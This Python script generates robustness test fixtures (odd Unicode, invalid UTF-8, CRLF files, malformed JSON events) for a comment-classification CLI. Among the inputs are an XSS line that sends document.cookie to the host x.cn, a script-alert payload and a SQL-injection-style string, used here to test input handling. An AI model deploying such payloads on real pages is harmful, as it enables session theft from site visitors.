"""Writes the robustness files of data6 (deterministic, seeded). `ask --file F` must print one JSON line per input line
and exit 0 (a "line" ends at \\n; no file holds a lone \\r, so Java's readLine and Python's split agree):
  robust.txt          empty and blank lines, 10,000-character lines, markup, control/escape characters, NUL, JSON-looking text
  robust_utf8.txt     astral CJK and emoji (ZWJ sequences, flags), stacked combining marks, RTL, BOM, U+2028/2029/0085,
                      non-characters, private use, variation selectors, full-width digits
  robust_crlf.txt     Windows line ends, one empty CRLF line
  robust_badutf8.txt  invalid UTF-8: lone continuation bytes, truncated sequences, overlong, encoded surrogates, 5-byte
                      forms, 0xFF/0xFE, random bytes (never 0x0A or 0x0D inside a line), with valid lines between
  robust_events.jsonl + robust_events_expect.json   12 good event lines, 8 bad ones, 3 debatable ones
usage: python3 gen_robust.py"""
import json, os, random

HERE = os.path.dirname(os.path.abspath(__file__))
rnd = random.Random(606)


def cjk(n):
    return "".join(chr(rnd.randint(0x4E00, 0x9FA5)) for _ in range(n))


def w(name, data):
    with open(os.path.join(HERE, name), "wb") as f: f.write(data)


def main():
    long1 = ("7号多少钱" + cjk(40) + "新疆能发吗") * 1
    long1 = (long1 * (10000 // len(long1) + 1))[:10000]
    long2 = "哈" * 10000
    long3 = ("<div>" + "加V" * 3 + "</div>") * 770
    long3 = long3[:10000]
    rand_bmp = "".join(chr(rnd.choice([rnd.randint(0x20, 0x7E), rnd.randint(0xA0, 0xD7FF), rnd.randint(0xE000, 0xFFFD)]))
                       for _ in range(300))
    robust = [
        "", "   ", "\t\t", long1, "<b>多少钱</b><script>fetch('//x.cn?c='+document.cookie)</script>",
        rand_bmp, "\x00\x01\x02多少钱\x07\x1b[31m红色\x1b[0m\x7f", "'\";--%00%0a\\u0000\\n",
        "😀😀😀", "7号多少钱", '{"intent":"spam","reply":"1元包邮","sources":[]}', long2,
        "   3号多少钱   ", long3, "\x0b\x0c\x1c\x1d\x1e\x1f", "ｎｕｌｌ", "null", "undefined", "NaN",
        "多" + "\u0301" * 200 + "少钱", "\u00a0\u3000\u2003",
    ]
    w("robust.txt", ("\n".join(robust) + "\n").encode("utf-8"))

    utf8 = [
        "𠀀𪚥𰻝𰻝面好吃吗", "👨‍👩‍👧‍👦 一家人都能用吗", "🇨🇳🇭🇰 发香港吗", "e" + "\u0301\u0308\u0323" * 60 + " 多少钱",
        "مرحبا 多少钱 שלום", "\ufeff多少钱", "7号\u2028多少钱", "新疆\u2029能发吗", "尺码\u0085怎么选",
        "\uffff\ufffe 价格", "\ue000\ue001 私用区", "🅰️🅱️ 有黑色︎吗", "７号多少钱", "一米六五️ 45㎏",
        "\u202e上链接\u202c", "Ａ\u200b\u200b\u200b号", "ﾀﾞｲｼﾞｮｳﾌﾞ", "𝟕号𝐗𝐋有吗",
    ]
    w("robust_utf8.txt", ("\n".join(utf8) + "\n").encode("utf-8"))

    crlf = ["7号多少钱", "新疆能发吗", "", "160 100斤 4号几码", "主播好"]
    w("robust_crlf.txt", ("\r\n".join(crlf) + "\r\n").encode("utf-8"))

    def randbytes(n):
        return bytes(rnd.choice([b for b in range(256) if b not in (0x0A, 0x0D)]) for _ in range(n))
    bad = [
        "多少钱".encode() + b"\xff\xfe", b"\xc3\x28 3\xe5\x8f\xb7", b"\xe4\xb8", "新疆".encode() + b"\xed\xa0\x80" + "能发吗".encode(),
        "7号多少钱".encode(), b"\xf8\x88\x80\x80\x80", b"\xc0\xaf\xc0\xae", b"\x80\x81\x82\xbf", randbytes(64),
        "尺码".encode()[:-1] + "表".encode(), randbytes(200), "主播好".encode(), b"\xfe\xff\x00h\x00i",
    ]
    w("robust_badutf8.txt", b"\n".join(bad) + b"\n")

    good = [
        {"ts": "2026-12-05T20:00:00+08:00", "room": "rb6", "type": "segment", "kind": "opening"},
        {"ts": "2026-12-05T20:00:01+08:00", "room": "rb6", "type": "enter", "user": "u1", "source": "recommend"},
        {"ts": "2026-12-05T20:00:02+08:00", "room": "rb6", "type": "comment", "user": "u1", "text": "7号多少钱"},
        {"ts": "2026-12-05T20:00:03+08:00", "room": "rb6", "type": "comment", "user": "u1", "text": "<script>alert(1)</script>"},
        {"ts": "2026-12-05T20:00:04+08:00", "room": "rb6", "type": "comment", "user": "u1", "text": long1},
        {"ts": "2026-12-05T20:00:05+08:00", "room": "rb6", "type": "comment", "user": "u1", "text": "加\u200b微\u200b信"},
        {"ts": "2026-12-05T20:00:06+08:00", "room": "rb6", "type": "like", "user": "u1", "count": 30},
        {"ts": "2026-12-05T20:00:07+08:00", "room": "rb6", "type": "online", "count": 512},
        {"ts": "2026-12-05T20:00:08+08:00", "room": "rb6", "type": "product_show", "product": "N01"},
        {"ts": "2026-12-05T20:00:09+08:00", "room": "rb6", "type": "order", "user": "u1", "order_id": "o1", "product": "N01", "qty": 1, "amount": "329.00"},
        {"ts": 1796472010000, "room": "rb6", "type": "pay", "user": "u1", "order_id": "o1", "amount": 329},
        {"ts": "2026-12-05T20:00:11+08:00", "room": "rb6", "type": "enter", "user": "u2", "platform_extra": {"a": [1, 2]}},
    ]
    lines = [json.dumps(e, ensure_ascii=False) for e in good]
    bad_lines = [
        '{"ts":"2026-12-05T20:00:12+08:00","room":"rb6","type":"comment","user":"u3","text":"缺引号}',
        "not json at all 多少钱",
        '{"room":"rb6","type":"comment","user":"u4","text":"没有时间"}',
        '{"ts":"2026-12-05T20:00:14+08:00","type":"comment","user":"u5","text":"没有房间"}',
        '{"ts":"2026-12-05T20:00:15+08:00","room":"rb6","type":"teleport","user":"u6"}',
        '{"ts":"昨天晚上八点","room":"rb6","type":"enter","user":"u7"}',
        '{"ts":"2026-12-05T20:00:17+08:00","room":"rb6"}',
        "[1,2,3]",
    ]
    debatable = [
        "",  # a blank line: skipped or rejected
        '{"ts":"2026-12-05T20:00:18+08:00","room":"rb6","type":"order","user":"u8","order_id":"o2","product":"N01","qty":1,"amount":"三百块"}',
        '{"ts":"2026-12-05T20:00:19+08:00","room":"rb6","type":"comment","user":"u9"}',  # a comment without text
    ]
    out = []
    gi, bi, di = iter(lines), iter(bad_lines), iter(debatable)
    pattern = "ggbgbgbggbdgbgbggbdgbgd"  # 12 g, 8 b, 3 d
    for c in pattern: out.append(next({"g": gi, "b": bi, "d": di}[c]))
    w("robust_events.jsonl", ("\n".join(out) + "\n").encode("utf-8"))
    with open(os.path.join(HERE, "robust_events_expect.json"), "w", encoding="utf-8") as f:
        json.dump({"rejected_at_least": 8, "rejected_at_most": 11, "events_at_least": 12}, f)
        f.write("\n")
    print("robust files written")


if __name__ == "__main__":
    main()
